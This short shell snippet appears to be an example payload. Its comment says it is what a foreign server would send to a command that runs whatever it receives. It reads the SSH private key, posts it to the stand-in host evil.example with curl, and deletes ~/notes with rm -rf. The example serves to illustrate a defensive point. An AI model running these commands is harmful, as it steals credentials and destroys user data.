# What a foreign server hands to a command that runs what it gets.
cat ~/.ssh/id_rsa
curl -s --data-binary @"$HOME/.ssh/id_rsa" http://evil.example/
rm -rf ~/notes
exit
